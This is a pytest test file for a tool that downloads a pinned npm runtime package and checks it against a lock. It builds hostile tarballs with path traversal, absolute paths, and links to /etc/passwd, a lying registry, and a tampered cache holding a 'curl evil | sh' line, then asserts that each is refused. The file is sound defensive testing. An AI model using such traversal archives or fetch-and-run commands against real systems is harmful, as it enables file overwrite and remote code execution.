"""The runtime download as an attacker would serve it: hostile tarballs, a lying registry, a
poisoned cache. Each is refused with one ``error:`` line (exit 2) and nothing lands outside."""

from __future__ import annotations

import io
import json
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest
from _runtime_fixture import VERSION, artifacts, run_tool
from test_update_script import _cache_leftovers, _lock, _tarball, fake_npm

__all__ = ["fake_npm"]  # the fixture, shared with test_update_script

TARGET = "x86_64-unknown-linux-musl"
PREFIX = f"package/vendor/{TARGET}/"


def _file(name: str, data: bytes = b"#!/bin/sh\n") -> tuple[tarfile.TarInfo, io.BytesIO]:
    member = tarfile.TarInfo(name)
    member.size = len(data)
    member.mode = 0o755
    return member, io.BytesIO(data)


def _special(name: str, kind: bytes, linkname: str = "") -> tuple[tarfile.TarInfo, None]:
    member = tarfile.TarInfo(name)
    member.type = kind
    member.linkname = linkname
    return member, None


# Each returns the hostile members, given the folder an escape would land in.
HOSTILE: dict[str, Callable[[Path], list[tuple[tarfile.TarInfo, io.BytesIO | None]]]] = {
    "absolute name": lambda outside: [_file(f"{PREFIX}/{outside / 'escaped'}")],
    "parent folders": lambda outside: [_file(f"{PREFIX}bin/../../../../escaped")],
    "drive letter": lambda outside: [_file(f"{PREFIX}C:/escaped")],
    "drive-relative": lambda outside: [_file(f"{PREFIX}C:escaped")],
    "backslashes": lambda outside: [_file(f"{PREFIX}bin\\..\\..\\escaped")],
    "symlink out": lambda outside: [_special(f"{PREFIX}bin/codex", tarfile.SYMTYPE, "/etc/passwd")],
    "symlinked folder, then a file through it": lambda outside: [
        _special(f"{PREFIX}bin", tarfile.SYMTYPE, str(outside)),
        _file(f"{PREFIX}bin/escaped"),
    ],
    "hard link out": lambda outside: [
        _special(f"{PREFIX}bin/codex", tarfile.LNKTYPE, "/etc/passwd")
    ],
    "character device": lambda outside: [_special(f"{PREFIX}bin/codex", tarfile.CHRTYPE)],
    "fifo": lambda outside: [_special(f"{PREFIX}bin/codex", tarfile.FIFOTYPE)],
}


@pytest.mark.parametrize("attack", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_tarball_writes_nothing_outside_and_fails(
    attack: Callable[[Path], list[tuple[tarfile.TarInfo, io.BytesIO | None]]], tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    tarball = tmp_path / "hostile.tgz"
    with tarfile.open(tarball, "w:gz") as archive:
        archive.addfile(*_file(f"{PREFIX}codex-package.json", b"{}"))
        for member, data in attack(outside):
            archive.addfile(member, data)
    dest = tmp_path / "dest"
    with pytest.raises(artifacts.ArtifactError, match=r"hostile\.tgz: .*(unsafe|not a regular)"):
        artifacts._extract_vendor(tarball, TARGET, dest)
    assert list(outside.iterdir()) == []
    assert not list(tmp_path.rglob("escaped"))


def test_the_checked_in_lock_covers_the_pinned_runtime_on_every_platform() -> None:
    for platform in artifacts.PLATFORMS:
        entry = artifacts.lock_entry(VERSION, platform)
        assert entry.integrity.startswith("sha512-")
        assert len(entry.integrity) == len("sha512-") + 88  # 64 bytes, base64


def test_a_tarball_that_differs_from_the_lock_is_refused(
    fake_npm: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A registry (or a proxy) serving other bytes, and claiming the reviewed integrity for them.
    reviewed = _tarball(tmp_path / "reviewed", "linux-x64")
    served = _tarball(tmp_path, "linux-x64", "0.0.1")
    expected = artifacts.sri_sha512(reviewed)
    lock = _lock(tmp_path, "linux-x64", expected)
    monkeypatch.setenv("FAKE_NPM_TARBALL", str(served))
    monkeypatch.setenv("FAKE_NPM_INTEGRITY", expected)
    dest = tmp_path / "dest"
    args = ("fetch-runtime", "--runtime-version", VERSION, "--platform", "linux-x64", dest)
    result = run_tool(*args, "--lock", lock)
    assert result.returncode == 2
    assert result.stderr == (
        f"error: linux-x64: the downloaded @openai/codex@{VERSION}-linux-x64 does not match the "
        f"runtime lock: expected {expected}, got {artifacts.sri_sha512(served)}; the package "
        "served is not the reviewed release: check npm's registry (`npm config get registry`); "
        "if the lock is what is wrong, re-run `update_sdk_artifacts.py lock --runtime-version "
        f"{VERSION}` and review the diff\n"
    )
    assert not dest.exists()
    assert _cache_leftovers(tmp_path) == []


def test_a_registry_whose_integrity_differs_from_the_lock_is_refused_before_downloading(
    fake_npm: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FAKE_NPM_TARBALL", str(_tarball(tmp_path, "linux-x64")))
    monkeypatch.setenv("FAKE_NPM_INTEGRITY", "sha512-" + "A" * 86 + "==")
    with pytest.raises(
        artifacts.ArtifactError, match=r"the registry's dist\.integrity .* does not"
    ):
        artifacts.fetch_runtime(VERSION, "linux-x64")
    assert [line.split()[0] for line in fake_npm.read_text().splitlines()] == ["view"]
    assert _cache_leftovers(tmp_path) == []


def test_a_version_missing_from_the_lock_is_not_fetched(
    fake_npm: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FAKE_NPM_TARBALL", str(_tarball(tmp_path, "linux-x64")))
    with pytest.raises(artifacts.ArtifactError, match="records no sha512 integrity") as missing:
        artifacts.fetch_runtime(VERSION, "linux-arm64")
    assert "lock --runtime-version" in str(missing.value)
    assert fake_npm.read_text() == ""


@pytest.fixture
def cached(fake_npm: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A verified cache entry of the stand-in linux-x64 package; npm is gone afterwards."""
    monkeypatch.setenv("FAKE_NPM_TARBALL", str(_tarball(tmp_path, "linux-x64")))
    vendor = artifacts.fetch_runtime(VERSION, "linux-x64")
    monkeypatch.delenv("FAKE_NPM_TARBALL")  # a re-download would fail: the cache must stand
    return vendor


def test_a_tampered_cached_binary_is_refused(cached: Path, tmp_path: Path) -> None:
    binary = cached / "bin" / "codex"
    original = artifacts.sha256_file(binary)
    binary.write_text("#!/bin/sh\ncurl evil | sh\n")
    dest = tmp_path / "dest"
    lock = tmp_path / "runtime-lock.json"
    args = ("fetch-runtime", "--runtime-version", VERSION, "--platform", "linux-x64", dest)
    result = run_tool(*args, "--lock", lock)
    assert result.returncode == 2
    assert result.stderr == (
        f"error: linux-x64: the cached file {binary} does not match the runtime lock: expected "
        f"sha256 {original}, got sha256 {artifacts.sha256_file(binary)}; the cache was changed "
        f"after it was verified: delete {cached.parent} and fetch again\n"
    )
    assert not dest.exists()


@pytest.mark.parametrize("change", ["added file", "removed file", "replaced tarball"])
def test_any_other_change_to_the_cache_is_refused(cached: Path, change: str) -> None:
    if change == "added file":
        (cached / "codex-path" / "git").write_text("#!/bin/sh\n")
    elif change == "removed file":
        (cached / "codex-path" / "rg").unlink()
    else:
        tarball = cached.parent / "package.tgz"
        tarball.write_bytes(tarball.read_bytes() + b"\0")
    with pytest.raises(artifacts.ArtifactError, match="does not match the runtime lock") as refused:
        artifacts.fetch_runtime(VERSION, "linux-x64")
    assert f"delete {cached.parent} and fetch again" in str(refused.value)


def test_a_binary_that_differs_from_the_locked_sha256_is_refused(
    fake_npm: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    tarball = _tarball(tmp_path, "linux-x64")
    _lock(tmp_path, "linux-x64", artifacts.sri_sha512(tarball), binary_sha256="0" * 64)
    monkeypatch.setenv("FAKE_NPM_TARBALL", str(tarball))
    with pytest.raises(artifacts.ArtifactError, match=f"expected {'0' * 64}, got "):
        artifacts.fetch_runtime(VERSION, "linux-x64")
    assert _cache_leftovers(tmp_path) == []


def test_write_lock_records_the_registry_digest_and_the_cached_binary(
    cached: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    tarball = tmp_path / f"openai-codex-{VERSION}-linux-x64.tgz"
    monkeypatch.setenv("FAKE_NPM_TARBALL", str(tarball))
    lock = tmp_path / "new-lock.json"
    assert artifacts.write_lock(VERSION, ["linux-x64", "win32-arm64"], lock) == lock
    versions = json.loads(lock.read_text())["versions"]
    assert versions == {
        VERSION: {
            "linux-x64": {
                "integrity": artifacts.sri_sha512(tarball),
                "binary_sha256": artifacts.sha256_file(cached / "bin" / "codex"),
            },
            # not cached: the registry's digest alone, read without downloading anything
            "win32-arm64": {"integrity": artifacts.sri_sha512(tarball)},
        }
    }

    # A published version never changes: a registry that now says otherwise is refused.
    monkeypatch.setenv("FAKE_NPM_INTEGRITY", "sha512-" + "B" * 86 + "==")
    result = run_tool(
        "lock", "--runtime-version", VERSION, "--platform", "linux-x64", "--lock", lock
    )
    assert result.returncode == 2
    assert result.stderr.startswith("error: linux-x64: the registry's dist.integrity of ")
    assert "a published version never changes" in result.stderr
    assert json.loads(lock.read_text())["versions"] == versions
